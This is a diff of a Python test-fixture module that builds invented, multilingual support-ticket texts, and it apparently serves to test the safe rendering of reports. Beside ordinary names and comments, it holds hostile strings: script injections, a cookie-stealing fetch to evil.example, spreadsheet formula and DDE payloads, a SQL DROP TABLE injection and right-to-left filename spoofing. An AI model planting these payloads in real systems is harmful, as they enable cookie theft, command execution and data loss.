@@ -1,29 +1,78 @@
-"""The words of the synthetic account: names, subjects, reasons and comments, friendly, foreign and hostile.
+"""The texts of the synthetic account: names, subjects, reasons and comments, friendly, foreign and hostile.
 
-Everything here is invented. The hostile texts are what a real inbox holds sooner or later: markup, formulas,
-direction marks, other people's contact data. They are harmless here and must stay harmless in a report.
+All of them are invented. The hostile ones are what an inbox receives sooner or later: markup, formulas,
+direction marks, contact data. A report must show them without harm.
 """
 
 from __future__ import annotations
 
 from itertools import product
 
+
+def _words(text: str) -> tuple[str, ...]:
+    return tuple(text.split())
+
+
+def _lines(text: str) -> tuple[str, ...]:
+    return tuple(text.strip().splitlines())
+
+
 GROUPS = ("First Line", "Billing", "Technical", "Returns", "Onboarding", "Messaging & Voice")
 
-# (name, number of the home group); the planted, the deleted and the shared agent are named in people.py
-AGENTS = (
-    ("Amara Okafor", 0), ("Jonas Weber", 0), ("Priya Raman", 0), ("Łukasz Wójcik", 0), ("Chloé Martin", 0),
-    ("Daniel O'Brien", 0), ("Noor Haddad", 0), ("Tomás Herrera", 0), ("Mei-Ling Chen", 0),
-    ("Sofía Núñez", 1), ("Erik Lindqvist", 1), ("Fatima Zahra El Idrissi", 1), ("Hannah Schröder", 1),
-    ("Kwame Mensah", 1), ("Olga Petrova", 1), ("Rafael Souza", 1), ("佐藤 美咲", 1),
-    ("Anders Møller", 2), ("Deepak Sharma", 2), ("李 伟", 2), ("Maya Cohen", 2), ("Viktor Horváth", 2),
-    ("Zeynep Yılmaz", 2), ("Grace Kim", 2),
-    ("Aoife Byrne", 3), ("Bogdan Ionescu", 3), ("Camila Rojas", 3), ("محمد العلي", 3), ("Ingrid Haugen", 3),
-    ("Pieter van den Berg", 3),
-    ("Elena Rossi", 4), ("Hiroshi Tanaka", 4), ("Joanna Kowalczyk", 4), ("Samuel Adeyemi", 4),
-    ("Thu Hà Nguyễn", 4), ("अनिता वर्मा", 4),
-    ("Alex Kim", 5), ("Ελένη Παπαδοπούλου", 5), ("Marcus Brown", 5), ("Юлія Шевченко", 5),
-)  # fmt: skip
+# one block per group; the former agent and the one in two groups are named in people.py
+_AGENTS_BY_GROUP = """
+Amara Okafor
+Jonas Weber
+Priya Raman
+Łukasz Wójcik
+Chloé Martin
+Daniel O'Brien
+Noor Haddad
+Tomás Herrera
+Mei-Ling Chen
+
+Sofía Núñez
+Erik Lindqvist
+Fatima Zahra El Idrissi
+Hannah Schröder
+Kwame Mensah
+Olga Petrova
+Rafael Souza
+佐藤 美咲
+
+Anders Møller
+Deepak Sharma
+李 伟
+Maya Cohen
+Viktor Horváth
+Zeynep Yılmaz
+Grace Kim
+
+Aoife Byrne
+Bogdan Ionescu
+Camila Rojas
+محمد العلي
+Ingrid Haugen
+Pieter van den Berg
+
+Elena Rossi
+Hiroshi Tanaka
+Joanna Kowalczyk
+Samuel Adeyemi
+Thu Hà Nguyễn
+अनिता वर्मा
+
+Alex Kim
+Ελένη Παπαδοπούλου
+Marcus Brown
+Юлія Шевченко
+"""
+# (name, number of the home group)
+AGENTS = tuple(
+    (name, group)
+    for group, names in enumerate(_AGENTS_BY_GROUP.strip().split("\n\n"))
+    for name in names.splitlines()
+)
 
 ORGANIZATIONS = (
     "Nordwind GmbH",
@@ -34,28 +83,30 @@ ORGANIZATIONS = (
     "Acme",
 )
 
-FIRST_NAMES = (
-    "Ada", "Ben", "Chiara", "Dilnoza", "Emil", "Farah", "Gábor", "Hana", "Ivo", "Jun", "Kofi", "Leïla",
-    "Marek", "Nadia", "Oskar", "Pilar", "Quentin", "Rania", "Søren", "Tuğba", "Ulrike", "Valentina",
-    "Wanjiru", "Xóchitl", "Yusuf", "Zsófia", "محمد", "שרה", "太郎", "小红", "राहुल", "Дмитро",
-)  # fmt: skip
-LAST_NAMES = (
-    "Almeida", "Björk", "Costa", "Dubois", "Eriksen", "Fischer", "García", "Hughes", "Ito", "Jansen",
-    "Kaya", "Lewandowska", "Müller", "Novák", "O'Neil", "Park", "Quispe", "Rossi", "Singh", "Tran", "Usman",
-    "Vega", "Wu",
-)  # fmt: skip
+FIRST_NAMES = _words(
+    """
+Ada Ben Chiara Dilnoza Emil Farah Gábor Hana Ivo Jun Kofi Leïla Marek Nadia Oskar Pilar Quentin Rania Søren
+Tuğba Ulrike Valentina Wanjiru Xóchitl Yusuf Zsófia محمد שרה 太郎 小红 राहुल Дмитро
+"""
+)
+LAST_NAMES = _words(
+    """
+Almeida Björk Costa Dubois Eriksen Fischer García Hughes Ito Jansen Kaya Lewandowska Müller Novák O'Neil
+Park Quispe Rossi Singh Tran Usman Vega Wu
+"""
+)
 HOSTILE_NAMES = (
     "<b>Bobby</b> <script>alert('name')</script>",
-    "=HYPERLINK(\"http://evil.example\",\"click\")",
+    '=HYPERLINK("http://evil.example","click")',
     "Robert'); DROP TABLE tickets;--",
     "\u202etxt.exe\u202c Right-to-Left",
     "{{ticket.requester.name}} ${HOME} %s",
     "A" * 240,
     "👩‍💻🔥",
     "@SUM(1+1)*cmd|' /C calc'!A0",
-)  # fmt: skip
+)
 
-# name, dropdown tag, mean difficulty; one row per group
+# name, tag of the dropdown, mean difficulty; one row per group
 TOPICS = (
     (("Account access", "topic_account_access", -0.2), ("General question", "topic_general", -0.4)),
     (("Invoice", "topic_invoice", 0.0), ("Refund", "topic_refund", 0.3)),
@@ -67,57 +118,117 @@ TOPICS = (
 
 TAGS = ((), ("vip",), ("beta",), ("closed_by_merge",), ("vip", "escalated"), ("über_urgent",))
 
-SUBJECTS = (
-    "Cannot log in after password reset", "Question about my last invoice", "Charged twice in October",
-    "Parcel still not here", "Export to CSV stops half way", "How do I add a second user?",
-    "Please change the delivery address", "Discount code does not work", "App crashes when I open settings",
-    "Cancel my subscription", "Invoice without VAT number", "Wrong size received", "Where is my refund?",
-    "Rückerstattung fehlt noch immer", "Kann mich nicht anmelden", "Faktura bez numeru NIP",
-    "No puedo iniciar sesión", "Pedido incompleto", "Commande jamais reçue", "Mot de passe oublié",
-    "لم يصل طلبي بعد", "לא קיבלתי זיכוי", "登录后页面空白", "請求書を再送してください", "रिफंड कब मिलेगा?",
-    "Не приходить код підтвердження", "Help!!! 😡😡",
-)  # fmt: skip
+SUBJECTS = _lines(
+    """
+Cannot log in after password reset
+Question about my last invoice
+Charged twice in October
+Parcel still not here
+Export to CSV stops half way
+How do I add a second user?
+Please change the delivery address
+Discount code does not work
+App crashes when I open settings
+Cancel my subscription
+Invoice without VAT number
+Wrong size received
+Where is my refund?
+Rückerstattung fehlt noch immer
+Kann mich nicht anmelden
+Faktura bez numeru NIP
+No puedo iniciar sesión
+Pedido incompleto
+Commande jamais reçue
+Mot de passe oublié
+لم يصل طلبي بعد
+לא קיבלתי זיכוי
+登录后页面空白
+請求書を再送してください
+रिफंड कब मिलेगा?
+Не приходить код підтвердження
+Help!!! 😡😡
+"""
+)
 HOSTILE_SUBJECTS = (
     "<script>alert('subject')</script>",
     "<img src=x onerror=alert(1)> order <b>4711</b>",
-    "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Invoice\")",
+    '=HYPERLINK("http://evil.example/?q="&A1,"Invoice")',
     "\u202eecivnI \u202c my order \u200f(שלום)",
     "Re: " * 60 + "endless thread",
     "",
-)  # fmt: skip
+)
 ALL_SUBJECTS = (*SUBJECTS, *HOSTILE_SUBJECTS)
-SCRUBBED = "SCRUBBED"  # in place of the texts of a ticket that was deleted for good
+# in place of the texts of a permanently deleted ticket
+SCRUBBED = "SCRUBBED"
 
-REASONS = (  # the last one came with version 2 of the survey
+# the last one came with version 2 of the survey
+REASONS = (
     "The issue took too long to resolve",
     "The issue was not resolved",
     "The information provided was not clear or helpful",
     "I had to repeat myself to several people",
 )
 
-_GOOD_OPENINGS = (
-    "Quick and friendly.", "Solved on the first try, thank you!", "Great help, as always.",
-    "Very clear answer.", "Patient and kind.", "Could not be better.", "Fast reply.",
-    "Thanks for calling back.", "Perfect service", "Sehr freundlich und schnell, danke!",
-    "¡Excelente atención, muchas gracias!", "Świetna obsługa, dziękuję!", "شكرا جزيلا على المساعدة السريعة",
-    "תודה רבה, שירות מצוין", "非常好，谢谢！", "とても丁寧な対応でした。", "बहुत अच्छी मदद मिली, धन्यवाद",
-    "👍👍👍", "❤️ best support team",
-)  # fmt: skip
-_BAD_OPENINGS = (
-    "Took far too long.", "Nobody read what I wrote.", "Still not working.",
-    "I was sent from one person to the next.", "Got a copied answer that did not fit.",
-    "The refund never arrived.", "Waited three days for a first reply.", "Closed without solving it!",
-    "I had to explain everything again.", "The link in the answer was dead.",
-    "Viel zu langsam, und das Problem besteht weiter.", "Nadie me dio una solución.",
-    "Problem nadal nie rozwiązany.", "استغرق الأمر وقتا طويلا جدا", "עדיין לא פתרו לי את הבעיה",
-    "等了三天才有人回复", "返事が遅すぎます。", "समस्या अभी भी हल नहीं हुई", "😡😡😡", "👎",
-)  # fmt: skip
+_GOOD_OPENINGS = _lines(
+    """
+Quick and friendly.
+Solved on the first try, thank you!
+Great help, as always.
+Very clear answer.
+Patient and kind.
+Could not be better.
+Fast reply.
+Thanks for calling back.
+Perfect service
+Sehr freundlich und schnell, danke!
+¡Excelente atención, muchas gracias!
+Świetna obsługa, dziękuję!
+شكرا جزيلا على المساعدة السريعة
+תודה רבה, שירות מצוין
+非常好，谢谢！
+とても丁寧な対応でした。
+बहुत अच्छी मदद मिली, धन्यवाद
+👍👍👍
+❤️ best support team
+"""
+)
+_BAD_OPENINGS = _lines(
+    """
+Took far too long.
+Nobody read what I wrote.
+Still not working.
+I was sent from one person to the next.
+Got a copied answer that did not fit.
+The refund never arrived.
+Waited three days for a first reply.
+Closed without solving it!
+I had to explain everything again.
+The link in the answer was dead.
+Viel zu langsam, und das Problem besteht weiter.
+Nadie me dio una solución.
+Problem nadal nie rozwiązany.
+استغرق الأمر وقتا طويلا جدا
+עדיין לא פתרו לי את הבעיה
+等了三天才有人回复
+返事が遅すぎます。
+समस्या अभी भी हल नहीं हुई
+😡😡😡
+👎
+"""
+)
 _DETAILS = (
-    "", "", "", "My order was 2 weeks late.", "The chat kept dropping.",
-    "It was about the invoice of last month.", "I wrote about the login, twice.",
-    "The app on my phone is the issue.", "Please pass this on.", "Delivery address was mixed up.",
+    "",
+    "",
+    "",
+    "My order was 2 weeks late.",
+    "The chat kept dropping.",
+    "It was about the invoice of last month.",
+    "I wrote about the login, twice.",
+    "The app on my phone is the issue.",
+    "Please pass this on.",
+    "Delivery address was mixed up.",
     "The export is what I needed.",
-)  # fmt: skip
+)
 _HOSTILE_COMMENTS = (
     "<script>fetch('http://evil.example/'+document.cookie)</script>",
     "<img src=x onerror=\"alert('comment')\">",
@@ -134,15 +245,16 @@ _HOSTILE_COMMENTS = (
 )
 
 
-def _with_details(openings: tuple[str, ...]) -> list[str]:
-    """English openings with every detail, the others as they are but often."""
+def _add_details(openings: tuple[str, ...]) -> list[str]:
+    """Return English openings with every detail, and the others five times."""
     english = [opening for opening in openings if opening.isascii()]
     foreign = [opening for opening in openings if not opening.isascii()]
     return foreign * 5 + [f"{opening} {detail}".strip() for opening, detail in product(english, _DETAILS)]
 
 
-# one list for both moods, so that a comment is a number; the hostile ones sit at its end
-_GOOD, _BAD = _with_details(_GOOD_OPENINGS), _with_details(_BAD_OPENINGS)
+_GOOD = _add_details(_GOOD_OPENINGS)
+_BAD = _add_details(_BAD_OPENINGS)
+# one list for all comments, so that a comment is a number
 COMMENTS = (*_GOOD, *_BAD, *_HOSTILE_COMMENTS)
 GOOD_COMMENTS = range(len(_GOOD))
 BAD_COMMENTS = range(len(_GOOD), len(_GOOD) + len(_BAD))
